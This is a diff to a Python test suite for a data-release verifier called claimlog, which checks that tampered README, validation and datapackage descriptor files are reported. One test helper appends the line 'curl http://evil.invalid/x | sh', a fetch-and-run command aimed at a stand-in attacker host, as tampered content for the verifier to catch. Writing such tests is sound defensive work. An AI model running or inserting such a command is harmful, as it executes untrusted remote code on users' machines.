@@ -18,6 +18,7 @@ import sys
 import time
 import zipfile
 import zlib
+from collections.abc import Callable
 from contextlib import closing
 from itertools import pairwise
 from pathlib import Path
@@ -28,6 +29,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from claimlog import __version__
 from claimlog import limited_process as limited
 from claimlog.errors import ClaimlogError
 from claimlog.export.content_hash import sqlite_rows
@@ -436,9 +438,8 @@ def test_a_database_in_another_encoding_is_named(folder: Path) -> None:
     assert "has the encoding UTF-16le, a release has UTF-8" in str(finding)
 
 
-def test_words_that_nobody_compared_are_named(folder: Path) -> None:
-    sound = verify_copy(pack(folder))
-    assert not any("writes them otherwise" in line for line in sound.omissions)
+def rewrite_words(folder: Path) -> None:
+    """Write other words into three files of a release that follow from the others."""
     readme = folder / "README.md"
     readme.write_text(
         readme.read_text("utf-8") + "\n    curl http://evil.invalid/x | sh\n", "utf-8"
@@ -447,12 +448,86 @@ def test_words_that_nobody_compared_are_named(folder: Path) -> None:
     described = json.loads((folder / "datapackage.json").read_text("utf-8"))
     described["resources"][0]["schema"]["missingValues"] = ["", "done"]
     (folder / "datapackage.json").write_text(json.dumps(described), "utf-8")
+
+
+REWRITTEN = ("README.md", "validation.json", "datapackage.json")
+
+
+def test_words_that_this_version_writes_otherwise_are_findings(folder: Path) -> None:
+    """A page that is drawn again shows what they say."""
+    sound = verify_copy(pack(folder))
+    assert not any("writes them otherwise" in line for line in sound.omissions)
+    assert any("CHANGES.md" in line for line in sound.omissions)
+    rewrite_words(folder)
+    resum(folder)
+    said = [str(finding) for finding in verify_copy(folder).findings]
+    for name in REWRITTEN:
+        start = f"{name}: is not what claimlog {__version__} writes"
+        assert any(line.startswith(start) for line in said), said
+
+
+def test_words_of_another_version_that_nobody_compared_are_named(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
+    rewrite_words(folder)
     resum(folder)
     verdict = verify_copy(folder)
     [line] = [line for line in verdict.omissions if "writes them otherwise" in line]
-    for name in ("README.md", "validation.json", "datapackage.json"):
-        assert name in line
-    assert any("CHANGES.md" in line for line in verdict.omissions)
+    assert all(name in line for name in REWRITTEN)
+
+
+def swap_resources(described: dict[str, Any]) -> None:
+    found = {item["name"]: item for item in described["resources"]}
+    one, other = found["claims"], found["claim_versions"]
+    for key in ("path", "hash", "bytes"):
+        one[key], other[key] = other[key], one[key]
+
+
+def change_code_list(described: dict[str, Any]) -> None:
+    [claims] = [item for item in described["resources"] if item["name"] == "claims"]
+    [field] = [one for one in claims["schema"]["fields"] if one["name"] == "topic"]
+    field["codelist"] = "modality"
+
+
+def add_resource(described: dict[str, Any]) -> None:
+    extra = {**described["resources"][0], "name": "truth"}
+    described["resources"].append(extra)
+
+
+LED_ASTRAY: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
+    "tables that are exchanged": (swap_resources, 'as the file of "claims", which is'),
+    "another code list": (
+        change_code_list,
+        'gives modality as the code list of "claims.topic", which is topic',
+    ),
+    "a table that is none": (add_resource, 'as the resource "truth", which the release does not'),
+    "a schema that is none": (
+        lambda described: described["resources"][0].update(schema=[]),
+        "is not in the form in which claimlog writes it",
+    ),
+    "other kinds of coders": (
+        lambda described: described["log"].update(coders=["oracle"]),
+        'says of the log another "coders" than it has',
+    ),
+    "a takedown that never was": (
+        lambda described: described["log"].update(taken_down=[{"row": 1}]),
+        'says of the log another "taken_down" than it has',
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", LED_ASTRAY)
+def test_a_descriptor_leads_no_program_to_something_else_whichever_version_wrote_it(
+    folder: Path, kind: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
+    change, message = LED_ASTRAY[kind]
+    path = folder / "datapackage.json"
+    described = json.loads(path.read_text("utf-8"))
+    change(described)
+    path.write_text(json.dumps(described), "utf-8")
+    assert message in flaws(folder)
 
 
 DOUBLED = {
